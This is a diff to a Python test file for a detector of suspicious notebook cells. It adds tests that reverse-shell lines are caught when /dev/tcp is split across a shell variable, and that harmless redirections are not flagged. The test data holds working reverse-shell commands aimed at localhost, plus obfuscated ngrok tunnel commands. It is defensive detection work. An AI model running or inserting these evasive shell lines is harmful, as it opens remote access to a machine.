@@ -699,6 +699,12 @@ CELL_GAPS_READ = [
     ("%%script node", ["%%script node\nrequire('child_process').execSync('ngrok tcp 22')"]),
 ]
 
+#: Read now (fixed in detect/commands.py: a shell line's variables replaced in its run: line)
+CELL_GAPS_REVERSE_SHELL = [
+    ("/dev/tcp through a variable", ["%%bash\nP=/dev/tc\nbash -i >& ${P}p/127.0.0.1/4444 0>&1"]),
+    ("/dev/tcp through a variable on one line", ["!P=/dev/tc; bash -i >& ${P}p/127.0.0.1/4444 0>&1"]),
+]
+
 #: Still open (the decorator's os.system(f) would raise TypeError, and runs nothing).
 CELL_GAPS = [
     ("a dictionary of functions", ["import os\nd = {'go': os.system}\nd['go']('ngrok tcp 22')"]),
@@ -708,8 +714,25 @@ CELL_GAPS = [
                         "'YwAAAAAAAAAAAAAAAAMAAAAAAAAA8y4AAACXAGQAZAFsAFoAAgBlAGoBAAAAAAAAAABkAqYBAACrAQAAAAAA"
                         "AAAAAQBkAVMAKQPpAAAAAE56DG5ncm9rIHRjcCAyMikC2gJvc9oGc3lzdGVtqQDzAAAAAPoIPHN0cmluZz76CDxt"
                         "b2R1bGU+cgcAAAABAAAAcyYAAADwAwEBAdgACYAJgAmACdgACYAChAmILtEAGdQAGdAAGdAAGdAAGXIFAAAA')))"]),
-    ("/dev/tcp through a variable", ["%%bash\nP=/dev/tc\nbash -i >& ${P}p/127.0.0.1/4444 0>&1"]),
+
 ]
+
+
+@pytest.mark.parametrize("what, cells", CELL_GAPS_REVERSE_SHELL,
+                         ids=[g[0] for g in CELL_GAPS_REVERSE_SHELL])
+def test_dev_tcp_spelled_through_a_variable_is_refused(what, cells):
+    """Was missed: the run: line kept ``${P}p`` (a redirection is no argv, so the shell's
+    variables never reached it)."""
+    assert "cell-reverse-shell" in _cell_signatures(*cells), what
+
+
+@pytest.mark.parametrize("cells", [
+    ["%%bash\nP=/dev/tcp\ntimeout 1 bash -c \"<$P/127.0.0.1/8888\" && echo up"],
+    ["!H=127.0.0.1; exec 3<>/dev/tcp/$H/8888; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; head -1 <&3"],
+    ["%%bash\nOUT=/tmp/log\npython train.py > $OUT 2>&1"],
+], ids=["a port check", "an HTTP check", "a log redirected"])
+def test_honest_redirections_through_variables_are_left_alone(cells):
+    assert _cell_signatures(*cells) == set()
 
 
 @pytest.mark.parametrize("what, cells", CELL_GAPS_READ, ids=[g[0] for g in CELL_GAPS_READ])
